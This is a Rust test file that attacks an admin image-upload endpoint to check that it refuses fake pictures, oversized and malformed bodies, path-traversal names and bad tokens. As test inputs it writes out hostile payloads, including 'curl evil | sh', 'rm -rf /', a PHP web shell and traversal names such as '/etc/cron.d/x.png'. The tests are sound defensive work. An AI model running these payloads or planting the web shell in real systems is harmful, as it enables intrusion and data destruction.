//! `POST /admin/common/upload` under attack: over 2 MiB (announced or chunked), scripts and
//! HTML dressed as PNGs, truncated pictures, an empty file, a `../` file name, no `file`
//! field or two, bodies that are not multipart or not well-formed, and no, a garbage or a
//! customer's token. Every refusal is the envelope with a 4xx (never 5xx: `send` checks),
//! nothing is stored (the image folder is compared), nothing is written to the database.

use std::time::Duration;

use reqwest::header::HeaderMap;
use tokio::io::{AsyncReadExt, AsyncWriteExt};

use crate::common::images::{JPEG, MULTIPART, PNG, Part, files_in, multipart};
use crate::common::{self, Backend, TestApp};
use crate::support::*;

const UPLOAD: &str = "/admin/common/upload";

/// An app whose images go to a folder the test can list.
async fn app_with_folder(backend: Backend) -> (TestApp, tempfile::TempDir) {
    let folder = tempfile::tempdir().unwrap();
    let dir = folder.path().to_path_buf();
    let app = common::spawn_with(backend, move |s| {
        s.images.storage = sky_takeout::config::images::ImageStorage::Local { dir }
    })
    .await;
    (app, folder)
}

async fn post(app: &TestApp, h: HeaderMap, parts: &[Part<'_>]) -> Reply {
    send(
        &app.base,
        "POST",
        UPLOAD,
        h,
        Payload::Raw(Some(MULTIPART), multipart(parts)),
    )
    .await
}

/// The envelope with exactly this status.
#[track_caller]
fn refused_with(r: &Reply, status: u16, what: &str) -> serde_json::Value {
    assert_eq!(r.status, status, "{what}: {:?}", r.text);
    envelope_shape(r, what)
}

/// A script or HTML named `.png` and declared `image/png`, a PNG signature followed by a
/// script, truncated pictures and an empty file: 415 (400 for the empty file is not used:
/// it is not a picture either), nothing stored.
async fn fake_and_broken_pictures_are_refused(backend: Backend) {
    let (app, folder) = app_with_folder(backend).await;
    let admin = app.admin().await;
    let before = (snapshot(&app).await, files_in(folder.path()));
    let script_png = [&PNG[..8], b"#!/bin/sh\ncurl evil | sh\n".as_slice()].concat();
    let framed = [
        &PNG[..33],
        b"<?php system($_GET[c]); ?>".as_slice(),
        &PNG[PNG.len() - 12..],
    ]
    .concat();
    let cases: [(&str, &[u8], &str); 9] = [
        (
            "a shell script named x.png",
            b"#!/bin/sh\nrm -rf /\n",
            "只能上传 JPEG、PNG 或 WebP 格式的图片",
        ),
        (
            "HTML named x.png",
            b"<html><script>alert(1)</script></html>",
            "只能上传 JPEG、PNG 或 WebP 格式的图片",
        ),
        (
            "a PNG signature followed by a script",
            &script_png,
            "只能上传 JPEG、PNG 或 WebP 格式的图片",
        ),
        (
            "a PNG's head and tail around PHP",
            &framed,
            "只能上传 JPEG、PNG 或 WebP 格式的图片",
        ),
        (
            "a PNG cut in half",
            &PNG[..PNG.len() / 2],
            "只能上传 JPEG、PNG 或 WebP 格式的图片",
        ),
        (
            "a PNG without its last byte",
            &PNG[..PNG.len() - 1],
            "只能上传 JPEG、PNG 或 WebP 格式的图片",
        ),
        (
            "a JPEG cut in half",
            &JPEG[..JPEG.len() / 2],
            "只能上传 JPEG、PNG 或 WebP 格式的图片",
        ),
        (
            "a JPEG without its end marker",
            &JPEG[..JPEG.len() - 2],
            "只能上传 JPEG、PNG 或 WebP 格式的图片",
        ),
        ("an empty file", b"", "上传的文件是空的"),
    ];
    for (what, bytes, msg) in cases {
        let r = post(
            &app,
            as_merchant(&admin.token),
            &[("file", Some("x.png"), Some("image/png"), bytes)],
        )
        .await;
        let v = refused_with(&r, 415, what);
        assert_eq!(v["msg"], msg, "{what}");
    }
    assert_eq!(
        (snapshot(&app).await, files_in(folder.path())),
        before,
        "something was stored"
    );
}

/// Over 2 MiB, announced by Content-Length or streamed chunked: 413 with the envelope and
/// the upload's own message (not the 64 KiB one); nothing stored; the server still answers.
async fn uploads_over_2_mib_are_refused(backend: Backend) {
    let (app, folder) = app_with_folder(backend).await;
    let admin = app.admin().await;
    let before = files_in(folder.path());
    let mut big = PNG.to_vec();
    big.resize(3 * 1024 * 1024, 0);
    let r = post(
        &app,
        as_merchant(&admin.token),
        &[("file", Some("big.png"), Some("image/png"), &big)],
    )
    .await;
    assert_eq!(
        refused_with(&r, 413, "3 MiB with Content-Length")["msg"],
        "图片大小不能超过 2 MiB"
    );
    // Just over 2 MiB of file inside a body under the route's limit: the handler's count.
    let mut over = PNG.to_vec();
    over.resize(2 * 1024 * 1024 + 1, 0);
    let r = post(
        &app,
        as_merchant(&admin.token),
        &[("file", Some("o.png"), None, &over)],
    )
    .await;
    assert_eq!(
        refused_with(&r, 413, "2 MiB + 1 byte")["msg"],
        "图片大小不能超过 2 MiB"
    );
    let (status, text) = chunked_upload(&app, &admin.token, 3 * 1024 * 1024).await;
    assert_eq!(status, 413, "3 MiB chunked: {text}");
    assert!(text.contains("图片大小不能超过 2 MiB"), "{text}");
    assert_eq!(files_in(folder.path()), before, "something was stored");
    // Still serving, and the rest of the API keeps its 64 KiB limit.
    let (status, v) = common::images::upload(&app.base, &admin.token, "ok.png", PNG).await;
    assert_eq!(
        (status, &v["code"]),
        (200, &serde_json::Value::from(1)),
        "{v}"
    );
    let r = send(
        &app.base,
        "POST",
        "/admin/employee/login",
        HeaderMap::new(),
        Payload::Json(format!("{{\"username\":\"{}\"}}", "a".repeat(100 * 1024))),
    )
    .await;
    assert!(
        refused_with(&r, 413, "100 KiB of JSON elsewhere")["msg"]
            .as_str()
            .unwrap()
            .contains("64 KiB")
    );
}

/// A multipart upload of `total` bytes of file, chunked (no Content-Length), over a raw socket.
async fn chunked_upload(app: &TestApp, token: &str, total: usize) -> (u16, String) {
    let sock = tokio::net::TcpStream::connect(&app.host).await.unwrap();
    let (mut rd, mut wr) = sock.into_split();
    let reader = tokio::spawn(async move {
        let mut out = Vec::new();
        let mut buf = [0u8; 4096];
        while let Ok(Ok(n)) = tokio::time::timeout(Duration::from_secs(10), rd.read(&mut buf)).await
        {
            if n == 0 {
                break;
            }
            out.extend_from_slice(&buf[..n]);
        }
        out
    });
    let head = format!(
        "POST {UPLOAD} HTTP/1.1\r\nHost: {}\r\ntoken: {token}\r\nContent-Type: {MULTIPART}\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n",
        app.host
    );
    wr.write_all(head.as_bytes()).await.unwrap();
    let mut file = PNG.to_vec();
    file.resize(total, 0);
    let body = multipart(&[("file", Some("big.png"), Some("image/png"), &file)]);
    for chunk in body.chunks(16 * 1024) {
        let frame = [format!("{:x}\r\n", chunk.len()).as_bytes(), chunk, b"\r\n"].concat();
        if wr.write_all(&frame).await.is_err() {
            break; // the server answered and closed
        }
    }
    let _ = wr.write_all(b"0\r\n\r\n").await;
    let text = String::from_utf8_lossy(&reader.await.unwrap()).to_string();
    let status = text.split_whitespace().nth(1).and_then(|s| s.parse().ok());
    (
        status.unwrap_or_else(|| panic!("no status line in {text:?}")),
        text,
    )
}

/// No `file` field, two of them, a body that is not multipart, a broken multipart body:
/// 400 with the envelope; nothing stored.
async fn malformed_uploads_are_400(backend: Backend) {
    let (app, folder) = app_with_folder(backend).await;
    let admin = app.admin().await;
    let before = (snapshot(&app).await, files_in(folder.path()));
    let file = ("file", Some("a.png"), Some("image/png"), PNG);
    for (what, parts) in [
        (
            "no file field",
            vec![("picture", Some("a.png"), Some("image/png"), PNG)],
        ),
        ("no parts at all", vec![]),
        ("two file fields", vec![file, file]),
        (
            "two file fields, the second not a picture",
            vec![file, ("file", Some("b.png"), None, b"<html>".as_slice())],
        ),
    ] {
        bad_request(&post(&app, as_merchant(&admin.token), &parts).await, what);
    }
    let body = multipart(&[file]);
    let cut = body[..body.len() / 2].to_vec();
    for (what, ct, bytes) in [
        (
            "a JSON body",
            Some("application/json"),
            br#"{"file":"x"}"#.to_vec(),
        ),
        (
            "the bytes of a PNG, not multipart",
            Some("image/png"),
            PNG.to_vec(),
        ),
        ("no Content-Type", None, body.clone()),
        (
            "multipart without a boundary",
            Some("multipart/form-data"),
            body.clone(),
        ),
        (
            "another boundary than the body's",
            Some("multipart/form-data; boundary=other"),
            body.clone(),
        ),
        ("a multipart body cut short", Some(MULTIPART), cut),
        (
            "garbage",
            Some(MULTIPART),
            b"\x00\x01garbage\r\n\r\n--".to_vec(),
        ),
    ] {
        let r = send(
            &app.base,
            "POST",
            UPLOAD,
            as_merchant(&admin.token),
            Payload::Raw(ct, bytes),
        )
        .await;
        bad_request(&r, what);
    }
    assert_eq!(
        (snapshot(&app).await, files_in(folder.path())),
        before,
        "something was stored"
    );
}

/// A file name with `../` (and other hostile names) never reaches the storage path: the
/// picture is stored under a random name inside the folder, and nothing appears outside it.
async fn client_file_names_never_reach_the_path(backend: Backend) {
    let folder = tempfile::tempdir().unwrap();
    let dir = folder.path().join("inner");
    let dir2 = dir.clone();
    let app = common::spawn_with(backend, move |s| {
        s.images.storage = sky_takeout::config::images::ImageStorage::Local { dir: dir2 }
    })
    .await;
    let admin = app.admin().await;
    let before = files_in(&dir);
    let names = [
        "../../escape.png",
        "..\\..\\escape.png",
        "/etc/cron.d/x.png",
        "x.php",
        "noextension",
    ];
    for name in names {
        let r = post(
            &app,
            as_merchant(&admin.token),
            &[("file", Some(name), Some("text/x-php"), PNG)],
        )
        .await;
        let url = success(&r, name)["data"].as_str().unwrap().to_string();
        let stored = url.rsplit('/').next().unwrap();
        assert!(
            stored.ends_with(".png") && stored.len() == 36,
            "{name}: {url}"
        );
    }
    assert_eq!(
        files_in(folder.path()),
        ["inner"],
        "nothing outside the folder"
    );
    assert_eq!(files_in(&dir).len(), before.len() + names.len());
    assert!(
        files_in(&dir).iter().all(|f| f.len() == 36),
        "{:?}",
        files_in(&dir)
    );
}

/// No token, a garbage token, a customer's token: a bare 401 before the body is read;
/// nothing stored.
async fn uploads_need_a_merchant(backend: Backend) {
    let (app, folder) = app_with_folder(backend).await;
    let c = app.customer("wx-hostile-upload").await;
    let before = files_in(folder.path());
    let file = [("file", Some("a.png"), Some("image/png"), PNG)];
    for (what, h) in [
        ("no token", HeaderMap::new()),
        ("a garbage token", as_merchant("not-a-token")),
        ("a customer's token as token", as_merchant(&c.token)),
        (
            "a customer's token as authentication",
            as_customer(&c.token),
        ),
    ] {
        unauthorized(&post(&app, h, &file).await, what);
    }
    assert_eq!(files_in(folder.path()), before, "something was stored");
}

backend_tests!(
    fake_and_broken_pictures_are_refused => fake_and_broken_pictures_are_refused,
    uploads_over_2_mib_are_refused => uploads_over_2_mib_are_refused,
    malformed_uploads_are_400 => malformed_uploads_are_400,
    client_file_names_never_reach_the_path => client_file_names_never_reach_the_path,
    uploads_need_a_merchant => uploads_need_a_merchant,
);
